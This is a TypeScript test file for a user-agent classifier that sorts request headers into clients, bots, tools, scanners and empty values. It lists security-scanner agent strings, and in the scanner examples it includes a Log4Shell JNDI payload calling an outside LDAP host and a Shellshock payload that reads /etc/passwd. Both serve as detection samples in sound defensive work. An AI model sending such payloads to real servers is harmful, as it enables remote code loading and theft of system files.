// Every class by agents that anyone knows, hostile input, and the figures on the corpora.
import { existsSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { classifyUserAgent, type UserAgentClass } from "./user-agent.ts";

const corpora = new URL("../../../../../shared/corpora/user-agents/", import.meta.url);
const hasCorpora = existsSync(corpora);
if (!hasCorpora) console.warn(`skipped: no user agents in ${corpora.pathname}`);

const android = (model: string) =>
  `Mozilla/5.0 (Linux; Android 13; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36`;

const examples: Record<UserAgentClass, string[]> = {
  client: [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Acme/12 CFNetwork/1568.200.51 Darwin/24.1.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
    "Nokia6230i/2.0 (03.80) Profile/MIDP-2.0 Configuration/CLDC-1.1",
    "Lynx/2.9.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.4.0",
  ],
  bot: [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  ],
  tool: [
    "curl/7.68.0",
    "Wget/1.21.4",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "node",
    "acme-sync/2.1 Python/3.12 aiohttp/3.9",
    "PostmanRuntime/7.42.0",
    "SomethingNobodyKnows/1.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
  ],
  scanner: [
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what the attack looks like
    "${jndi:ldap://203.0.113.9/a}",
    "() { :; }; /bin/cat /etc/passwd",
  ],
  empty: ["", " ", "\t\n ", "\0\0\0", "-"],
};

describe("classifyUserAgent", () => {
  for (const [expected, agents] of Object.entries(examples)) {
    for (const agent of agents) {
      it(`takes ${JSON.stringify(agent.slice(0, 60))} for ${expected}`, () => {
        expect(classifyUserAgent(agent)).toBe(expected);
        expect(classifyUserAgent(agent)).toBe(expected);
      });
    }
  }

  it("takes a missing header for empty", () => {
    expect(classifyUserAgent(undefined)).toBe("empty");
  });

  it("knows that CUBOT makes phones", () => {
    for (const model of [
      "CUBOT KINGKONG 9",
      "CUBOT_NOTE_S",
      "CUBOT X19 Build/PPR1.180610.011",
      "X9 Build/CUBOT",
    ]) {
      expect(classifyUserAgent(android(model)), model).toBe("client");
    }
    expect(classifyUserAgent(android("OtherBot/1.0"))).toBe("bot");
  });

  it("does not read a phone's model as what the program is", () => {
    for (const model of ["Discovery Pro", "Google Pixel 9", "Scan TC52", "Radar", "Hydra", "Wfuzz Build/1"]) {
      expect(classifyUserAgent(android(model)), model).toBe("client");
    }
  });

  it("does not read what an app or a television says about its device as a name", () => {
    const webView =
      "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.0.0 Mobile Safari/537.36";
    for (const agent of [
      android("Crawlr Bot Tab 7"),
      android("GO 4"),
      `Mozilla/5.0 (Linux; Android 14; Scanner X Build/AB1; wv) ${webView} Weixin Process/toolsmp`,
      "Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OMI/4.23.Catcher2.1 VIDAA/7.0",
      "DailyNews/3.1 iPad14,1 iPadOS/18.1 CFNetwork/1568.2 Darwin/24.1.0",
      "WhatsApp/2.24.1 Android/14 Device/Acme-One",
      "AndroidDownloadManager/14 (Linux; U; Android 14; Acme One Build/UP1A)",
      "SAMSUNG-SGH-Q999",
      "iPhone16Pro",
    ]) {
      expect(classifyUserAgent(agent), agent).toBe("client");
    }
  });

  it.each([
    [
      "a device or program of a maker",
      ["Nokia Acme Manager", "HTCAcme", "SAMSUNG Acme 7", "Archos 99 Tablet", "KWC-Q9", "Garmin acme 9X/1.0"],
    ],
    [
      "a handset that a gateway or an app names",
      ["ACME9 HTC-QX9999", "AcmeClient-AM-samsung-GT-Q9999-r-1.0", "MOZILLA50 (SAMSUNG SAMSUNG-GT-Q9999"],
    ],
    [
      "a television, a player at it, or a speaker",
      [
        "Opera/9.80 (Linux armv9l; Opera TV Store/9999; (DTV; DTV99/1.0; like Gecko)) Presto/2.12 Version/12.11",
        "Mozilla/4.0 (compatible; Gecko/20050101) Maple 9.0.0 Navi",
        "Opera/9.80 WebKit/1.0 () PhilipsWebKit/600.1",
        "XBMC/99.1 Git:abcdef (Linux; http://www.xbmc.org)",
        "Kodi/99.1 (http://kodi.tv)",
        "Amazon;Echo_Acme;0123456789abcdef;;tpapi;1.0.0",
        "Mozilla/5.0 (Apple TV; CPU OS 99_1 like Mac OS X; en-US) Acme Sports GO/1160",
      ],
    ],
    ["a console", ["Mozilla/3.0 (DreamPassport/9.9)", "Acme-InternetRadioPlayer/1.00", "Acme/1.0 (Xbox)"]],
    [
      "a pocket computer or a handset of a telephone company",
      [
        "Mozilla/4.5 (Screen=99x99; Product=CASIO/CASSIOPEIA Q9; JavaScript=yes) (Acme/1.0)",
        "Mozilla/3.0(WILLCOM;ACME/Q9999,Q9998/1.0/0100/c50)CNF/2.0",
      ],
    ],
    ["a printer with a screen", ["Acme WebKit (Konica Minolta)", "HP LaserJet Q999"]],
    ["an app that names its system", ["AcmeRadio iOS 2.0.6", "AcmeNetwork/iOS"]],
    [
      "what plays or shows mail",
      [
        "Acme FM Player",
        "acme_player",
        "Acme Radio",
        "Acme-Media-Player/1.2",
        "AcmeMail/4.70",
        "Mailbird/9.9",
      ],
    ],
    [
      "an old or small browser",
      ["Mozilla/3.0 (Win95)", "CERN-LineMode/9.9", "Ladybird/1.0", "Links (9.9; Linux)"],
    ],
    [
      "a header whose value names it",
      ["User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"],
    ],
    ["Apple's mail", ["Apple-iPhone99C9/9999.1"]],
    [
      "an app that keeps its user's account",
      ["Acme/1.0(android:9;device_model:QX;google_account:ada@example.com;game:Acme)"],
    ],
  ])("takes %s for a client", (_family, agents) => {
    for (const agent of agents) expect(classifyUserAgent(agent), agent).toBe("client");
  });

  it("takes a crawler for a bot and a library for a tool, whatever device it names", () => {
    for (const agent of [
      "Huaweiacmespider (compatible; MSIE 8.0)",
      "AcmeBot/1.0 (iOS 18)",
      "Acme Site Sucker/2.1 (macOS)",
      "Acme/1.0 (macOS; +https://acme.example/about)",
      "Player/1.0 (+https://acme.example/crawling)",
      "Mozilla/5.0 (compatible; Acmefetcher; acme.tv)",
    ]) {
      expect(classifyUserAgent(agent), agent).toBe("bot");
    }
    expect(classifyUserAgent("masscan/1.3 (iOS)")).toBe("scanner");
    for (const agent of [
      "acme/1.0 Go/1.23",
      "Go/1.23",
      "okhttp/4.12 (iOS)",
      "curl/8.5 (Android)",
      "User-Agent: curl/8.5",
    ]) {
      expect(classifyUserAgent(agent), agent).toBe("tool");
    }
  });

  it("finds a bot behind a phone that it imitates", () => {
    const safari = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1";
    for (const agent of [
      android("Acme One; Storebot-Acme/1.0"),
      android("Acme One; +https://acme.example/why"),
      `${android("Acme One")} (compatible; Acme-Inspection/1.0)`,
      `${android("Acme One")}; Acmespider`,
      `Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) acme.com/policy ${safari}`,
    ]) {
      expect(classifyUserAgent(agent), agent).toBe("bot");
    }
  });

  it("takes a compatible program without an engine for a bot, and old Internet Explorers for clients", () => {
    expect(classifyUserAgent("Mozilla/5.0 (compatible; acme-batch/2.0.2016)")).toBe("bot");
    expect(classifyUserAgent("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")).toBe("client");
    expect(classifyUserAgent("Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.5 (like Gecko)")).toBe(
      "client",
    );
  });

  it("does not take one name for part of another", () => {
    expect(
      classifyUserAgent(
        "Mozilla/5.0 (Linux; x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Undicious/1.0 Axiosity/2.0",
      ),
    ).toBe("client");
  });

  it("does not look beyond the first part of a long header, and takes none so long for a client", () => {
    const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0";
    expect(classifyUserAgent(`${browser} ${"x".repeat(400)}`)).toBe("client");
    expect(classifyUserAgent(`${browser} ${"x".repeat(500)}`)).toBe("tool");
    expect(classifyUserAgent(`${browser} ${"x".repeat(10_000)} sqlmap/1.8`)).toBe("tool");
    expect(classifyUserAgent(`sqlmap/1.8 ${"x".repeat(10_000)}`)).toBe("scanner");
    expect(classifyUserAgent(" ".repeat(10_000))).toBe("empty");
  });

  it("reads past control characters", () => {
    expect(classifyUserAgent("\0\0curl/8.5.0\0")).toBe("tool");
    expect(classifyUserAgent("sql\0map")).not.toBe("empty");
    expect(classifyUserAgent("\ud800")).toBe("client");
  });

  it("answers the same when more agents came by than it remembers", () => {
    for (let index = 0; index < 10_000; index++) classifyUserAgent(`tool${index}/1.0`);
    expect(classifyUserAgent("curl/7.68.0")).toBe("tool");
  });

  it.skipIf(!hasCorpora)(
    "finds at least 0.995 of bots and tools, and suspects at most 0.0005 of people",
    () => {
      const read = (file: string): string[] =>
        readFileSync(new URL(file, corpora), "utf8")
          .trim()
          .split("\n")
          .map((line) => JSON.parse(line).ua);
      const bots = read("bots.jsonl");
      const humans = read("humans.jsonl");
      expect(bots.length).toBeGreaterThan(2000);
      expect(humans.length).toBeGreaterThan(10_000);
      const missed = bots.filter((agent) => classifyUserAgent(agent) === "client");
      const suspected = humans.filter((agent) => classifyUserAgent(agent) !== "client");
      expect(1 - missed.length / bots.length).toBeGreaterThanOrEqual(0.995);
      expect(suspected.length / humans.length).toBeLessThanOrEqual(0.0005);
    },
  );
});
